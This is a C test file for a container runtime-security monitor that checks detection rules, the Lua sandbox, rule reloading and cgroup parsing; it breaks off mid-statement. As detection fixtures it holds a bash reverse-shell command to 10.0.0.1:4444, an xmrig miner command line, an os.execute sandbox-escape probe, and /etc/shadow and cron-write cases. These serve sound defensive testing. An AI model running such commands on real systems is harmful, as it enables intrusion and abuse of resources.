/* SPDX-License-Identifier: Apache-2.0 */
/*
 * rules_test.c - the runtime rule evaluator (src/defend/rules.c) on the
 * built-in rules of rules/, the cgroup-path container attribution
 * (src/sensor/container.c) on /proc/PID/cgroup files captured from real
 * Docker containers on cgroup v1 + v2, and the sensor's record checks.
 */
#include <linux/types.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#include "defend/lua.h"
#include "defend/reload.h"
#include "defend/rules-policy.h"
#include "defend/rules.h"
#include "events.h"
#include "harness.h"
#include "moat/error.h"
#include "sensor/container.h"
#include "sensor/sensor.h"

static char src_path[4096];

static const char *src(const char *rel)
{
	const char *root = getenv("MOAT_SRC");

	snprintf(src_path, sizeof(src_path), "%s/%s", root ? root : ".", rel);
	return src_path;
}

static struct moat_ruleset *builtin(void)
{
	struct moat_ruleset *rs = NULL;
	struct moat_error err = { 0 };

	CHECK_INT(moat_rules_open(&rs, &err), 0);
	if (!rs)
		return NULL;
	CHECK_INT(moat_rules_load_dir(rs, src("rules"), &err), 0);
	if (err.msg[0])
		printf("# %s\n", err.msg);
	return rs;
}

/* Rules matching a view, as "id,id,...". */
static const char *matches(const struct moat_ruleset *rs, const struct moat_rule_view *v)
{
	static char out[1024];
	size_t o = 0;

	out[0] = 0;
	for (size_t i = 0; i < moat_rules_count(rs); i++) {
		const struct moat_rule *r = moat_rules_get(rs, i);

		if (moat_rule_matches(r, v))
			o += (size_t)snprintf(out + o, sizeof(out) - o, "%s%s", o ? "," : "", r->id);
	}
	return out;
}

static void exec_view(struct moat_rule_view *v, const char *name, const char *cmdline,
		      bool container)
{
	memset(v, 0, sizeof(*v));
	v->f[MOAT_F_EVT_KIND] = "exec";
	v->f[MOAT_F_PROC_NAME] = name;
	v->f[MOAT_F_PROC_CMDLINE] = cmdline;
	v->f[MOAT_F_PROC_STDIN_SOCK] = "false";
	v->f[MOAT_F_PROC_STDOUT_SOCK] = "false";
	v->f[MOAT_F_PROC_STDIN_TYPE] = "pipe";
	v->f[MOAT_F_PROC_STDOUT_TYPE] = "pipe";
	v->f[MOAT_F_PROC_STDERR_TYPE] = "pipe";
	v->f[MOAT_F_PROC_DRIFT] = "false";
	if (container)
		v->f[MOAT_F_CONTAINER_ID] =
			"c32903aa84117a44ccca2e119cbac829b5952736f15c3ee5b7ccd17698e2dae2";
}

static void test_rules__builtin_exec(void)
{
	struct moat_ruleset *rs = builtin();
	struct moat_rule_view v;

	if (!rs)
		return;
	CHECK(moat_rules_count(rs) >= 15);
	/* a shell someone started through the runtime (docker exec, entrypoint) */
	exec_view(&v, "bash", "bash", true);
	v.f[MOAT_F_PARENT_NAME] = "containerd-shim";
	CHECK_STR(matches(rs, &v), "shell-in-container");
	v.f[MOAT_F_PARENT_NAME] = "runc:[2:INIT]";
	CHECK_STR(matches(rs, &v), "shell-in-container");
	/* one the workload runs itself (node's child_process.exec, make) */
	v.f[MOAT_F_PARENT_NAME] = "node";
	CHECK_STR(matches(rs, &v), "");
	exec_view(&v, "bash", "bash", false);
	v.f[MOAT_F_PARENT_NAME] = "containerd-shim";
	CHECK_STR(matches(rs, &v), "");
	exec_view(&v, "bash", "bash -i", true);
	v.f[MOAT_F_PARENT_NAME] = "containerd-shim";
	v.f[MOAT_F_PROC_STDIN_SOCK] = "true";
	v.f[MOAT_F_PROC_STDIN_TYPE] = "tcp";
	CHECK_STR(matches(rs, &v), "shell-in-container,reverse-shell");
	/* a socketpair (node, ninja) or a listening socket is not a peer */
	v.f[MOAT_F_PROC_STDIN_TYPE] = "unix";
	CHECK_STR(matches(rs, &v), "shell-in-container");
	v.f[MOAT_F_PROC_STDIN_TYPE] = "listen";
	CHECK_STR(matches(rs, &v), "shell-in-container");
	exec_view(&v, "bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", false);
	CHECK_STR(matches(rs, &v), "reverse-shell-cmdline");
	exec_view(&v, "xmrig", "xmrig -o stratum+tcp://pool.example:3333 -u x", true);
	CHECK_STR(matches(rs, &v), "crypto-miner-args,crypto-miner-binary");
	exec_view(&v, "dropper", "/tmp/dropper", true);
	v.f[MOAT_F_PROC_DRIFT] = "true";
	CHECK_STR(matches(rs, &v), "container-drift");
	CHECK(moat_rules_kill_drift(rs));
	/* a benign web server */
	exec_view(&v, "python3", "python3 -m http.server 8080", true);
	CHECK_STR(matches(rs, &v), "");
	moat_rules_close(rs);
}

static void file_view(struct moat_rule_view *v, const char *kind, const char *name,
		      const char *path, bool write, bool container)
{
	exec_view(v, name, name, container);
	v->f[MOAT_F_EVT_KIND] = kind;
	v->f[MOAT_F_FD_NAME] = path;
	v->f[MOAT_F_FD_WRITE] = write ? "true" : "false";
}

static void test_rules__builtin_files_net(void)
{
	struct moat_ruleset *rs = builtin();
	struct moat_rule_view v;

	if (!rs)
		return;
	file_view(&v, "open", "cat", "/etc/shadow", false, true);
	CHECK_STR(matches(rs, &v), "read-shadow");
	file_view(&v, "open", "sshd", "/etc/shadow", false, false);
	CHECK_STR(matches(rs, &v), "");
	file_view(&v, "open", "sh", "/etc/cron.d/x", true, true);
	CHECK_STR(matches(rs, &v), "write-below-etc-cron");
	file_view(&v, "open", "cat", "/etc/crontab", false, true);
	CHECK_STR(matches(rs, &v), "");
	file_view(&v, "rename", "mv", "/tmp/x", true, true);
	v.f[MOAT_F_FD_NAME2] = "/etc/cron.daily/evil";
	CHECK_STR(matches(rs, &v), "write-below-etc-cron");
	file_view(&v, "open", "tee", "/etc/ld.so.preload", true, false);
	CHECK_STR(matches(rs, &v), "write-ld-so-preload");
	file_view(&v, "open", "sh", "/home/alice/.ssh/authorized_keys", true, false);
	CHECK_STR(matches(rs, &v), "write-authorized-keys");
	file_view(&v, "open", "useradd", "/etc/passwd", true, false);
	CHECK_STR(matches(rs, &v), "");
	file_view(&v, "connect", "curl", "/var/run/docker.sock", false, true);
	CHECK_STR(matches(rs, &v), "docker-socket-in-container");
	file_view(&v, "connect", "curl", "/var/run/docker.sock", false, false);
	CHECK_STR(matches(rs, &v), "");
	exec_view(&v, "miner", "miner", true);
	v.f[MOAT_F_EVT_KIND] = "connect";
	v.f[MOAT_F_NET_FAMILY] = "inet";
	v.f[MOAT_F_NET_DPORT] = "14444";
	CHECK_STR(matches(rs, &v), "crypto-miner-pool-port");
	v.f[MOAT_F_NET_DPORT] = "443";
	CHECK_STR(matches(rs, &v), "");
	exec_view(&v, "runc:[2:INIT]", "runc init", true);
	v.f[MOAT_F_EVT_KIND] = "mount";
	CHECK_STR(matches(rs, &v), "");
	v.f[MOAT_F_PROC_NAME] = "mount";
	v.f[MOAT_F_PROC_CMDLINE] = "mount -t proc proc /mnt";
	CHECK_STR(matches(rs, &v), "mount-in-container");
	moat_rules_close(rs);
}

static int load_str(struct moat_ruleset *rs, const char *text, struct moat_error *err)
{
	return moat_rules_load(rs, (const uint8_t *)text, strlen(text), "test.yaml", err);
}

static void test_rules__operators(void)
{
	struct moat_ruleset *rs = NULL;
	struct moat_error err = { 0 };
	struct moat_rule_view v;

	CHECK_INT(moat_rules_open(&rs, &err), 0);
	CHECK_INT(load_str(rs, "rules:\n"
		" - {id: a, severity: info, when: {field: proc.exe, glob: '/usr/*/py*'}}\n"
		" - {id: b, severity: info, when: {field: proc.exe, endswith: [.sh, /nc]}}\n"
		" - {id: c, severity: info, when: {not: {field: container.id, exists: true}}}\n"
		" - {id: d, severity: info, when: {or: [{field: user.uid, equals: 0},\n"
		"                                    {field: proc.name, contains: adm}]}}\n"
		" - {id: e, severity: info, action: kill, mitre: [T1], when: {and: [\n"
		"     {field: proc.exe, startswith: /tmp/}, {field: fd.write, equals: true}]}}\n",
		&err), 0);
	if (err.msg[0])
		printf("# %s\n", err.msg);
	memset(&v, 0, sizeof(v));
	v.f[MOAT_F_PROC_EXE] = "/usr/bin/python3";
	v.f[MOAT_F_USER_UID] = "0";
	CHECK_STR(matches(rs, &v), "a,c,d");
	v.f[MOAT_F_PROC_EXE] = "/tmp/run.sh";
	v.f[MOAT_F_USER_UID] = "1000";
	v.f[MOAT_F_PROC_NAME] = "sysadmin";
	v.f[MOAT_F_CONTAINER_ID] = "x";
	v.f[MOAT_F_FD_WRITE] = "true";
	CHECK_STR(matches(rs, &v), "b,d,e");
	CHECK_INT(moat_rules_get(rs, 4)->action, MOAT_ACTION_KILL);
	CHECK_STR(moat_rules_get(rs, 4)->mitre[0], "T1");
	moat_rules_close(rs);
}

/* One rule "l" with condition evt.kind=exec and this Lua chunk. */
static struct moat_ruleset *lua_rule(const char *chunk, struct moat_error *err, int *ret)
{
	struct moat_ruleset *rs = NULL;
	char text[2048];

	snprintf(text, sizeof(text), "rules:\n  - id: l\n    severity: info\n"
		 "    when: {field: evt.kind, equals: exec}\n    lua: |\n      %s\n", chunk);
	*ret = moat_rules_open(&rs, err);
	if (*ret == 0)
		*ret = load_str(rs, text, err);
	return rs;
}

static void test_rules__lua(void)
{
	struct moat_error err = { 0 };
	struct moat_ruleset *rs;
	struct moat_rule_view v;
	int r;

	/* matches: the hook sees the event's fields after the condition matched */
	rs = lua_rule("function match(evt) return evt['proc.name'] == 'bash' and "
		      "evt['container.id'] ~= nil and evt['no.such'] == nil end", &err, &r);
	CHECK_INT(r, 0);
	exec_view(&v, "bash", "bash", true);
	CHECK_STR(matches(rs, &v), "l");
	exec_view(&v, "bash", "bash", false);
	CHECK_STR(matches(rs, &v), "");
	exec_view(&v, "sh", "sh", true);
	CHECK_STR(matches(rs, &v), "");
	v.f[MOAT_F_EVT_KIND] = "open";          /* condition fails: the hook does not run */
	v.f[MOAT_F_PROC_NAME] = "bash";
	CHECK_STR(matches(rs, &v), "");
	CHECK_INT(moat_rules_lua_errors(rs), 0);
	moat_rules_close(rs);

	/* a runtime error: no match, counted */
	rs = lua_rule("function match(evt) return evt['proc.name'].x.y end", &err, &r);
	CHECK_INT(r, 0);
	exec_view(&v, "bash", "bash", true);
	CHECK_STR(matches(rs, &v), "");
	CHECK_INT(moat_rules_lua_errors(rs), 1);
	moat_rules_close(rs);

	/* an endless loop is stopped by the instruction budget, every call */
	rs = lua_rule("function match(evt) while true do end end", &err, &r);
	CHECK_INT(r, 0);
	{
		struct timespec t0;
		struct timespec t1;

		clock_gettime(CLOCK_MONOTONIC, &t0);
		CHECK_STR(matches(rs, &v), "");
		clock_gettime(CLOCK_MONOTONIC, &t1);
		printf("# a runaway match() was stopped after %.3f ms\n",
		       (double)(t1.tv_sec - t0.tv_sec) * 1e3 + (double)(t1.tv_nsec - t0.tv_nsec) / 1e6);
	}
	CHECK_STR(matches(rs, &v), "");
	CHECK_INT(moat_rules_lua_errors(rs), 2);
	if (rs && moat_rules_count(rs))
		CHECK(strstr(moat_lua_last_error(moat_rules_get(rs, 0)->lua), "instruction limit"));
	moat_rules_close(rs);

	/* no way out: os, io, require, load ... are gone; os.execute fails */
	rs = lua_rule("function match(evt) return os == nil and io == nil and package == nil and "
		      "require == nil and load == nil and loadfile == nil and dofile == nil and "
		      "print == nil and string.rep('a', 3) == 'aaa' end", &err, &r);
	CHECK_INT(r, 0);
	CHECK_STR(matches(rs, &v), "l");
	moat_rules_close(rs);
	rs = lua_rule("function match(evt) os.execute('touch /tmp/moat-lua-pwned') return true end",
		      &err, &r);
	CHECK_INT(r, 0);
	CHECK_STR(matches(rs, &v), "");
	CHECK_INT(moat_rules_lua_errors(rs), 1);
	CHECK(access("/tmp/moat-lua-pwned", F_OK) != 0);
	moat_rules_close(rs);

	/* memory cap, read-only evt, non-boolean results */
	rs = lua_rule("function match(evt) local s = string.rep('x', 8 << 20) return #s > 0 end",
		      &err, &r);
	CHECK_STR(matches(rs, &v), "");
	if (rs && moat_rules_count(rs))
		CHECK(strstr(moat_lua_last_error(moat_rules_get(rs, 0)->lua), "memory"));
	moat_rules_close(rs);
	rs = lua_rule("function match(evt) rawset(evt, 'proc.name', 'x') evt.x = 1 return true end",
		      &err, &r);
	CHECK_STR(matches(rs, &v), "");
	moat_rules_close(rs);
	rs = lua_rule("function match(evt) return 1 end", &err, &r);
	CHECK_STR(matches(rs, &v), "");
	CHECK_INT(moat_rules_lua_errors(rs), 1);
	moat_rules_close(rs);
}

static void test_rules__lua_load_errors(void)
{
	static const struct {
		const char *chunk;
		int code;
		const char *msg;
	} rows[] = {
		{ "function match(evt) return end end", MOAT_E_FORMAT, "test.yaml: rule l: lua:" },
		{ "x = 1", MOAT_E_FORMAT, "no function match" },
		{ "error('boom') function match(evt) return true end", MOAT_E_FORMAT, "boom" },
		{ "while true do end", MOAT_E_FORMAT, "instruction limit" },
		{ "big = string.rep('y', 5 << 20) function match(evt) return true end",
		  MOAT_E_LIMIT, "not enough memory" },
		{ "os.execute('true') function match(evt) return true end", MOAT_E_FORMAT, "os" },
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct moat_error err = { 0 };
		struct moat_ruleset *rs;
		int r;

		rs = lua_rule(rows[i].chunk, &err, &r);
		if (r != rows[i].code || !strstr(err.msg, rows[i].msg))
			printf("# row %zu: %d \"%s\"\n", i, r, err.msg);
		CHECK_INT(r, rows[i].code);
		CHECK(strstr(err.msg, rows[i].msg) != NULL);
		CHECK_INT(moat_rules_count(rs), 0);
		moat_rules_close(rs);
	}
	{
		/* a good hook, then a bad rule in the same file: nothing added, nothing leaked */
		struct moat_ruleset *rs = NULL;
		struct moat_error err = { 0 };

		CHECK_INT(moat_rules_open(&rs, &err), 0);
		CHECK_INT(load_str(rs, "rules:\n"
			" - {id: a, severity: info, when: {field: proc.pid, exists: true},"
			"    lua: 'function match(e) return true end'}\n"
			" - {id: b, severity: nope, when: {field: proc.pid, exists: true}}\n", &err),
			MOAT_E_FORMAT);
		CHECK_INT(moat_rules_count(rs), 0);
		CHECK_INT(load_str(rs, "rules: [{id: c, severity: info, when: {field: proc.pid, "
			"exists: true}, lua: 5}]\n", &err), MOAT_E_FORMAT);
		CHECK(strstr(err.msg, "lua is a string") != NULL);
		moat_rules_close(rs);
	}
}

static void put_file(const char *dir, const char *name, const char *text)
{
	char path[512];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	f = fopen(path, "w");
	if (!f)
		return;
	fputs(text, f);
	fclose(f);
}

/* The watch without a defender: changes are seen, bad sets are refused, other files ignored. */
static void test_rules__reload(void)
{
	char dir[] = "/tmp/moat-reload-XXXXXX";
	struct moat_rules_watch *w = NULL;
	struct moat_ruleset *rs = NULL;
	struct moat_error err = { 0 };
	char path[512];

	if (!mkdtemp(dir)) {
		CHECK(false);
		return;
	}
	put_file(dir, "a.yaml",
		 "rules: [{id: a, severity: info, when: {field: proc.pid, exists: true}}]\n");
	CHECK_INT(moat_rules_watch_open(dir, &w, &err), 0);
	if (!w)
		return;
	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), 0);
	put_file(dir, "notes.txt", "not a rule file\n");
	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), 0);
	put_file(dir, "b.yml",
		 "rules: [{id: b, severity: info, when: {field: proc.pid, exists: true}}]\n");
	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), 1);
	CHECK_INT(rs ? moat_rules_count(rs) : 0, 2);
	moat_rules_close(rs);
	rs = NULL;
	put_file(dir, "b.yml", "rules: [{id: b, severity: info,\n  when: {field: no.such, equals: 1}}]\n");
	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), MOAT_E_FORMAT);
	CHECK(rs == NULL);
	CHECK(strstr(err.msg, "/b.yml: rule b: unknown field") != NULL);
	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), 0);
	snprintf(path, sizeof(path), "%s/b.yml", dir);
	unlink(path);
	CHECK_INT(moat_rules_watch_check(w, 20, &rs, &err), 1);
	CHECK_INT(rs ? moat_rules_count(rs) : 0, 1);
	moat_rules_close(rs);
	moat_rules_watch_close(w);
	snprintf(path, sizeof(path), "%s/a.yaml", dir);
	unlink(path);
	snprintf(path, sizeof(path), "%s/notes.txt", dir);
	unlink(path);
	rmdir(dir);
}

static void test_rules__deny_exes(void)
{
	struct moat_ruleset *rs = NULL;
	struct moat_error err = { 0 };
	const char *paths[8];

	CHECK_INT(moat_rules_open(&rs, &err), 0);
	CHECK_INT(load_str(rs, "rules:\n"
		" - {id: a, severity: info, action: kill, when: {and: [{field: evt.kind, equals: exec},"
		"    {field: proc.exe, in: [/usr/bin/xmrig, /tmp/x]}]}}\n"
		" - {id: b, severity: info, action: alert, when: {and: [{field: evt.kind, equals: exec},"
		"    {field: proc.exe, equals: /usr/bin/nc}]}}\n"
		" - {id: c, severity: info, action: kill, when: {and: [{field: evt.kind, equals: exec},"
		"    {field: proc.exe, equals: /bin/sh}, {field: container.id, exists: true}]}}\n"
		" - {id: d, severity: info, action: kill, when: {and: [{field: proc.exe, equals: /opt/m},"
		"    {field: evt.kind, equals: exec}]}}\n"
		" - {id: e, severity: info, action: kill, scope: container, when: {and: ["
		"    {field: evt.kind, equals: exec}, {field: proc.exe, equals: /bin/dd}]}}\n",
		&err), 0);
	/* b only alerts, c is narrower than a path, e spares the host: none becomes a kernel kill */
	CHECK_INT(moat_rules_deny_exes(rs, paths, 8), 3);
	CHECK_STR(paths[0], "/usr/bin/xmrig");
	CHECK_STR(paths[1], "/tmp/x");
	CHECK_STR(paths[2], "/opt/m");
	moat_rules_close(rs);
}

static void test_rules__scope(void)
{
	struct moat_ruleset *rs = NULL;
	struct moat_error err = { 0 };
	struct moat_rule_view v;

	CHECK_INT(moat_rules_open(&rs, &err), 0);
	CHECK_INT(load_str(rs, "rules:\n"
		" - {id: c, severity: info, scope: container, when: {field: evt.kind, equals: exec}}"
		"\n"
		" - {id: h, severity: info, scope: host, when: {field: evt.kind, equals: exec}}\n"
		" - {id: b, severity: info, scope: both, when: {field: evt.kind, equals: exec}}\n"
		" - {id: d, severity: info, when: {field: evt.kind, equals: exec}}\n", &err), 0);
	CHECK_INT(moat_rules_get(rs, 0)->scope, MOAT_SCOPE_CONTAINER);
	CHECK_INT(moat_rules_get(rs, 3)->scope, MOAT_SCOPE_BOTH);
	CHECK_STR(moat_rule_scope_name(moat_rules_get(rs, 1)->scope), "host");
	exec_view(&v, "sh", "sh", true);
	CHECK_STR(matches(rs, &v), "c,b,d");
	exec_view(&v, "sh", "sh", false);
	CHECK_STR(matches(rs, &v), "h,b,d");
	CHECK(moat_rules_use_field(rs, MOAT_F_EVT_KIND));
	CHECK(!moat_rules_use_field(rs, MOAT_F_PROC_ANCESTORS));
	CHECK(load_str(rs, "rules: [{id: x, severity: info, scope: pod, when: {field: proc.pid, "
		       "equals: 1}}]", &err) == MOAT_E_FORMAT);
	CHECK(strstr(err.msg, "scope is container, host or both") != NULL);
	CHECK(load_str(rs, "rules: [{id: y, severity: info, scope: [host], when: {field: proc.pid, "
		       "equals: 1}}]", &err) == MOAT_E_FORMAT);
	moat_rules_close(rs);
}

static void test_rules__errors(void)
{
	static const struct {
		const char *text;
		int code;
		const char *msg;
	} rows[] = {
		{ "rules: [{id: a, severity: info, when: {field: no.such, equals: 1}}]",
		  MOAT_E_FORMAT, "unknown field" },
		{ "rules: [{id: a, severity: info, when: {field: proc.pid, matches: 1}}]",
		  MOAT_E_FORMAT, "unknown test" },
		{ "rules: [{id: a, severity: bad, when: {field: proc.pid, equals: 1}}]",
		  MOAT_E_FORMAT, "severity" },
		{ "rules: [{id: A B, severity: info, when: {field: proc.pid, equals: 1}}]",
		  MOAT_E_FORMAT, "id" },
		{ "rules: [{id: a, severity: info}]", MOAT_E_FORMAT, "no when" },
		{ "rules: [{id: a, severity: info, action: nuke, when: {field: proc.pid, equals: 1}}]",
		  MOAT_E_FORMAT, "action" },
		{ "rules: [{id: a, severity: info, when: {field: proc.pid, equals: [1, 2]}}]",
		  MOAT_E_FORMAT, "use in" },
		{ "rules: [{id: a, severity: info, when: {field: proc.pid, equals: 1}},"
		  " {id: a, severity: info, when: {field: proc.pid, equals: 1}}]",
		  MOAT_E_USAGE, "duplicate" },
		{ "{\"rules\": 5}", MOAT_E_FORMAT, "no rules" },
	};

	char deep[1024];
	size_t o = 0;

	/* conditions nested one past MOAT_RULES_MAX_DEPTH */
	o += (size_t)snprintf(deep, sizeof(deep), "rules: [{id: a, severity: info, when: ");
	for (unsigned i = 0; i <= MOAT_RULES_MAX_DEPTH; i++)
		o += (size_t)snprintf(deep + o, sizeof(deep) - o, "{not: ");
	o += (size_t)snprintf(deep + o, sizeof(deep) - o, "{field: proc.pid, equals: 1}");
	for (unsigned i = 0; i <= MOAT_RULES_MAX_DEPTH; i++)
		o += (size_t)snprintf(deep + o, sizeof(deep) - o, "}");
	snprintf(deep + o, sizeof(deep) - o, "}]");
	{
		struct moat_ruleset *rs = NULL;
		struct moat_error err = { 0 };

		moat_rules_open(&rs, &err);
		CHECK_INT(load_str(rs, deep, &err), MOAT_E_LIMIT);
		CHECK(strstr(err.msg, "too deep") != NULL);
		moat_rules_close(rs);
	}
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct moat_ruleset *rs = NULL;
		struct moat_error err = { 0 };

		moat_rules_open(&rs, &err);
		CHECK_INT(load_str(rs, rows[i].text, &err), rows[i].code);
		if (!strstr(err.msg, rows[i].msg))
			printf("# row %zu: got \"%s\"\n", i, err.msg);
		CHECK(strstr(err.msg, rows[i].msg) != NULL);
		CHECK_INT(moat_rules_count(rs), 0);
		moat_rules_close(rs);
	}
}

static void test_rules__prefixes(void)
{
	struct moat_ruleset *rs = builtin();
	struct moat_ev_prefix p[MOAT_EV_PREFIX_MAX];
	size_t n;

	if (!rs)
		return;
	n = moat_rules_prefixes(rs, p, MOAT_EV_PREFIX_MAX);
	for (size_t i = 0; i < n; i++)
		CHECK_INT(strlen(p[i].p), p[i].len);
	/* cron only matters when written, shadow on any open */
	CHECK(moat_prefixes_report(p, n, "/etc/cron.d/x", MOAT_PREFIX_WRITE));
	CHECK(!moat_prefixes_report(p, n, "/etc/cron.d/x", MOAT_PREFIX_READ));
	CHECK(moat_prefixes_report(p, n, "/etc/shadow", MOAT_PREFIX_READ));
	CHECK(moat_prefixes_report(p, n, "/etc/shadow", MOAT_PREFIX_WRITE));
	moat_rules_close(rs);
}

static void test_rules__prefix_merge(void)
{
	struct moat_ruleset *rs = NULL;
	struct moat_error err = { 0 };
	struct moat_ev_prefix p[4];
	size_t n;

	CHECK_INT(moat_rules_open(&rs, &err), 0);
	CHECK_INT(load_str(rs, "rules:\n"
		" - {id: a, severity: info, when: {and: [{field: fd.write, equals: true},"
		"    {field: fd.name, in: [/etc/aa, /etc/ab, /etc/ac/x, /var/spool/a, /var/spool/b]}]}}\n"
		" - {id: b, severity: info, when: {field: fd.name, in: [/root/.aws/x, /srv/key]}}\n"
		" - {id: c, severity: info, when: {and: [{field: evt.kind, equals: mount},"
		"    {field: fd.name2, startswith: /dev/}]}}\n", &err), 0);
	n = moat_rules_prefixes(rs, p, 4);
	CHECK_INT(n, 4);
	/* write-only heads merge first; the mount rule asks for no prefix */
	CHECK(moat_prefixes_report(p, n, "/etc/ab", MOAT_PREFIX_WRITE));
	CHECK(moat_prefixes_report(p, n, "/var/spool/b", MOAT_PREFIX_WRITE));
	CHECK(!moat_prefixes_report(p, n, "/etc/ab", MOAT_PREFIX_READ));
	CHECK(moat_prefixes_report(p, n, "/root/.aws/x", MOAT_PREFIX_READ));
	CHECK(moat_prefixes_report(p, n, "/srv/key", MOAT_PREFIX_READ));
	CHECK(!moat_prefixes_report(p, n, "/dev/sda", MOAT_PREFIX_READ));
	CHECK(!moat_prefixes_report(p, n, "/root/.bashrc", MOAT_PREFIX_READ));
	moat_rules_close(rs);
}

static size_t slurp(const char *rel, char *buf, size_t cap)
{
	FILE *f = fopen(src(rel), "r");
	size_t n;

	if (!f)
		return 0;
	n = fread(buf, 1, cap - 1, f);
	fclose(f);
	buf[n] = 0;
	return n;
}

static void test_rules__cgroup_ids(void)
{
	static const struct {
		const char *line;
		const char *id;
	} rows[] = {
		{ "0::/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope\n",
		  "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef" },
		{ "11:memory:/kubepods/burstable/pod1f2e/fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210\n",
		  "fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210" },
		{ "0::/kubepods.slice/kubepods-pod1.slice/cri-containerd-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.scope",
		  "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" },
		{ "0::/user.slice/user-1000.slice/session-2.scope\n", NULL },
		{ "0::/docker/0123456789ABCDEF0123456789abcdef0123456789abcdef0123456789abcdef\n", NULL },
		{ "garbage without colons", NULL },
	};
	char buf[8192];
	char id[MOAT_CONTAINER_ID_LEN + 1];
	char want[128];
	size_t n;

	n = slurp("tests/data/sensor/cgroup-docker-v1.txt", buf, sizeof(buf));
	CHECK(n > 0);
	CHECK(moat_container_id_from_cgroup(buf, n, id));
	CHECK(slurp("tests/data/sensor/cgroup-docker-v1.id", want, sizeof(want)) > 64);
	want[64] = 0;
	CHECK_STR(id, want);
	n = slurp("tests/data/sensor/cgroup-host.txt", buf, sizeof(buf));
	CHECK(n > 0);
	CHECK(!moat_container_id_from_cgroup(buf, n, id));
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		bool ok = moat_container_id_from_cgroup(rows[i].line, strlen(rows[i].line), id);

		CHECK_INT(ok, rows[i].id != NULL);
		if (ok && rows[i].id)
			CHECK_STR(id, rows[i].id);
	}
}

static void test_rules__times(void)
{
	uint64_t t = 0;

	CHECK(moat_container_parse_time("2024-05-01T10:00:00.123456789Z", &t));
	CHECK_INT(t, 1714557600);
	CHECK(moat_container_parse_time("2024-05-01T12:00:00+02:00", &t));
	CHECK_INT(t, 1714557600);
	CHECK(!moat_container_parse_time("0001-01-01T00:00:00", &t));
	CHECK(!moat_container_parse_time("yesterday", &t));
}

static void test_rules__record_checks(void)
{
	struct moat_ev_exec e;

	memset(&e, 0, sizeof(e));
	e.hdr.kind = MOAT_EV_EXEC;
	e.hdr.abi = MOAT_EVENT_ABI;
	e.hdr.size = sizeof(e);
	CHECK_INT(moat_sensor_check(&e, sizeof(e)), 0);
	CHECK_INT(moat_sensor_check(&e, sizeof(e) - 1), MOAT_E_FORMAT);
	e.hdr.abi = MOAT_EVENT_ABI + 1;
	CHECK_INT(moat_sensor_check(&e, sizeof(e)), MOAT_E_FORMAT);
	e.hdr.abi = MOAT_EVENT_ABI;
	e.hdr.kind = MOAT_EV_OPEN;            /* an exec-sized record claiming to be an open */
	CHECK_INT(moat_sensor_check(&e, sizeof(e)), MOAT_E_FORMAT);
	CHECK_INT(moat_sensor_check(&e, 4), MOAT_E_FORMAT);
	CHECK_STR(moat_sensor_kind_name(MOAT_EV_CONNECT), "connect");
	CHECK_STR(moat_sensor_kind_name(999), "unknown");
}

static const struct moat_rule *rule_by_id(const struct moat_ruleset *rs, const char *id)
{
	for (size_t i = 0; i < moat_rules_count(rs); i++)
		if (!strcmp(moat_rules_get(rs, i)->id, id))
			return moat_rules_get(rs, i);
	return NULL;
}

/* The console's runtime policies over a ruleset (rules-policy.h). */
static void test_rules__overlay(void)
{
	static const char rules[] = "rules:\n"
		"  - {id: a-one, severity: warning, when: {field: evt.kind, equals: exec}}\n"
		"  - {id: a-two, severity: warning, when: {field: evt.kind, equals: exec}}\n"
		"  - {id: b-one, severity: warning, action: kill, when: {field: evt.kind, equals: exec}}\n"
		"  - {id: c-one, severity: warning, when: {field: evt.kind, equals: exec}}\n";
	struct moat_rules_overlay *ov = NULL;
	struct moat_ruleset *rs = NULL;
	struct moat_error err = { 0 };
	size_t dropped = 9, changed = 9;
	json_t *pol = json_loads("[{\"kind\":\"runtime\",\"name\":\"p1\",\"enabled\":true,"
				 "\"mode\":\"block\",\"rules\":{\"disable\":[\"a-*\"],"
				 "\"rules\":[\"c-one\"],\"action\":\"stop\"}},"
				 "{\"kind\":\"runtime\",\"name\":\"dry\",\"enabled\":true,"
				 "\"mode\":\"alert\",\"rules\":{\"rules\":[\"b-*\"],\"action\":\"kill\"}},"
				 "{\"kind\":\"runtime\",\"name\":\"off\",\"enabled\":false,"
				 "\"mode\":\"block\",\"rules\":{\"disable\":[\"*\"]}},"
				 "{\"kind\":\"firewall\",\"name\":\"fw\",\"enabled\":true,"
				 "\"mode\":\"block\",\"rules\":{\"disable\":[\"*\"]}}]", 0, NULL);

	CHECK(pol != NULL);
	CHECK_INT(moat_rules_open(&rs, &err), 0);
	CHECK_INT(moat_rules_load(rs, (const uint8_t *)rules, strlen(rules), "t.yaml", &err), 0);
	CHECK_INT(moat_rules_overlay_parse(pol, &ov, &err), 0);
	moat_rules_overlay_apply(ov, rs, &dropped, &changed);
	CHECK_INT(dropped, 2);
	CHECK_INT(changed, 2);  /* c-one alert -> stop; b-one kill -> alert (dry run) */
	CHECK_INT(moat_rules_count(rs), 2);
	CHECK(rule_by_id(rs, "a-one") == NULL && rule_by_id(rs, "a-two") == NULL);
	CHECK(rule_by_id(rs, "c-one") && rule_by_id(rs, "c-one")->action == MOAT_ACTION_STOP);
	CHECK(rule_by_id(rs, "b-one") && rule_by_id(rs, "b-one")->action == MOAT_ACTION_ALERT);
	moat_rules_overlay_free(ov);
	moat_rules_close(rs);
	json_decref(pol);
	/* a bad action or a list that is not one: an error naming the policy, nothing applied */
	pol = json_loads("[{\"kind\":\"runtime\",\"name\":\"bad\",\"enabled\":true,"
